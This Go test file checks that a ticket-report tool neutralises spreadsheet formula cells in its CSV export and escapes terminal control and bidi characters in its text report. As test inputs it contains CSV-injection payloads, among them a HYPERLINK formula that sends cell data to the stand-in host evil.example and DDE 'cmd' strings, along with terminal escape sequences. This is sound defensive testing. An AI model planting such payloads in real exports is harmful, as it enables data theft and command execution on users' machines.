package main

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"
)

// OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection):
// a cell beginning with =, +, -, @, tab (0x09) or carriage return (0x0D)
// is read by spreadsheets as a formula; prefix it with a single quote and
// keep it in double quotes (embedded quotes doubled). Typed values the
// program computes (integers, decimals, durations) are numbers, not text:
// a negative one is written as is.
func TestCSVNeutralisesFormulaCells(t *testing.T) {
	tb := &Table{ID: "t", Columns: []Column{{"v", "V", false, false}}}
	cells := []Cell{
		txt(`=HYPERLINK("http://evil.example/?"&A1,"click")`),
		txt("+1+cmd|' /C calc'!A0"),
		txt("-2+3"),
		txt("@SUM(A1:A9)"),
		txt("\t=1+1"),
		txt("\r=1+1"),
		txt("plain"),
		txt("a=b"),
		num(-5),
		decCell(mustDec(t, "-1.5"), 2),
		dur(-2*time.Hour - 5*time.Minute),
		hrs(-30 * time.Minute),
	}
	for _, c := range cells {
		tb.Add(c)
	}
	r := &Report{Sections: []*Section{{ID: "s", Tables: []*Table{tb}}}}
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, r, "t"))
	out := buf.String()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err, out)
	var got []string
	for _, rec := range recs[1:] {
		got = append(got, rec[0])
	}
	assert.Equal(t, []string{
		`'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"'+1+cmd|' /C calc'!A0",
		"'-2+3",
		"'@SUM(A1:A9)",
		"'\t=1+1",
		"'\r=1+1",
		"plain",
		"a=b",
		"-5",
		"-1.50",
		"-2h5m0s",
		"-30m0s",
	}, got)
	// The neutralised cells stay quoted in the file.
	assert.Contains(t, out, "\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n")
	assert.Contains(t, out, "\n\"'-2+3\"\n")
	assert.Contains(t, out, "\n\"'@SUM(A1:A9)\"\n")
	assert.Contains(t, out, "\n-5\n", "a negative number is a number")
	assert.Contains(t, out, "\n-2h5m0s\n")
}

// Unneutralised fields are written exactly as encoding/csv writes them, so
// the file stays what every CSV reader expects.
func TestCSVRecordMatchesEncodingCSV(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		rec := rapid.SliceOfN(rapid.StringOf(rapid.SampledFrom([]rune("ab ,\"\r\n\t\\.'=é"))), 1, 5).Draw(t, "rec")
		var want bytes.Buffer
		cw := csv.NewWriter(&want)
		require.NoError(t, cw.Write(rec))
		cw.Flush()
		var got bytes.Buffer
		require.NoError(t, writeCSVRecord(&got, rec, make([]bool, len(rec))))
		if want.String() != got.String() {
			t.Fatalf("record %q: want %q, got %q", rec, want.String(), got.String())
		}
	})
}

func TestCSVReportNeutralisesImportedText(t *testing.T) {
	p := filepath.Join(t.TempDir(), "in.csv")
	data := "ticket,time,event,state,team,service,impact,urgency,priority,reason,contact,csat,nps\n" +
		"INC1,2026-06-01T09:00:00+02:00,open,New,\"=cmd|' /C calc'!A0\",@E-Mail,2,2,,,phone,,\n"
	require.NoError(t, os.WriteFile(p, []byte(data), 0o644))
	var out, errb bytes.Buffer
	require.NoError(t, Run(Options{MaxRejected: "100", In: p, Now: "2026-06-02T08:00:00+02:00", From: "2026-06-01", To: "2026-06-02", Format: "csv"}, &out, &errb))
	r := csv.NewReader(&out)
	r.FieldsPerRecord = -1 // the all-tables CSV has records of several lengths
	recs, err := r.ReadAll()
	require.NoError(t, err)
	seen := 0
	for _, rec := range recs {
		for _, f := range rec {
			if strings.Contains(f, "calc") || strings.Contains(f, "E-Mail") && strings.Contains(f, "@") {
				seen++
				assert.True(t, strings.HasPrefix(f, "'") || !strings.ContainsAny(f[:1], "=+-@\t\r"), "cell %q", f)
			}
			if f != "" {
				assert.NotContains(t, "=+-@\t\r", f[:1], "live formula cell %q in %q", f, rec)
			}
		}
	}
	assert.NotZero(t, seen, "the imported text is in the report")
}

// Terminal control characters and bidi overrides in the input are shown
// escaped in the text report (as strconv.Quote would write them), never
// passed to the terminal.
func TestTextEscapesControlCharacters(t *testing.T) {
	p := filepath.Join(t.TempDir(), "in.csv")
	data := "ticket,time,event,state,team,service,impact,urgency,priority,reason,contact,csat,nps\n" +
		"\"INC\x1b[2J1\",2026-06-01T09:00:00+02:00,open,New,\"Desk\x1b]0;pwned\x07\",\"Mail\u202eliam\",2,2,,,phone,,\n" +
		"INC2,2026-06-01T09:00:00+02:00,state,\"Bogus\x1b[31m\tstate\",,,,,,,,,\n"
	require.NoError(t, os.WriteFile(p, []byte(data), 0o644))
	var out, errb bytes.Buffer
	require.NoError(t, Run(Options{MaxRejected: "100", In: p, Now: "2026-06-02T08:00:00+02:00", From: "2026-06-01", To: "2026-06-02"}, &out, &errb))
	s := out.String()
	for _, bad := range []string{"\x1b", "\x07", "\u202e", "\t"} {
		assert.NotContains(t, s, bad)
	}
	assert.Contains(t, s, `INC\x1b[2J1`)
	assert.Contains(t, s, `Mail\u202eliam`)
	assert.Contains(t, s, `Bogus\x1b[31m\tstate`, "the rejected row's reason quotes the input escaped")
}

func TestEscapeControls(t *testing.T) {
	for in, want := range map[string]string{
		"plain – ✓ é":        "plain – ✓ é",
		"a\x1b[31mb":         `a\x1b[31mb`,
		"tab\there\nnl\rcr":  `tab\there\nnl\rcr`,
		"del\x7f c1\u0085":   `del\x7f c1\u0085`,
		"bidi\u202e\u2066x":  `bidi\u202e\u2066x`,
		"bad utf8 \xff\xfe.": `bad utf8 \xff\xfe.`,
		"nul\x00":            `nul\x00`,
		"ls\u2028ps\u2029":   `ls\u2028ps\u2029`,
	} {
		assert.Equal(t, want, escapeControls(in), "%q", in)
	}
}

func mustDec(t *testing.T, s string) decimal.Decimal {
	t.Helper()
	d, err := decimal.NewFromString(s)
	require.NoError(t, err)
	return d
}
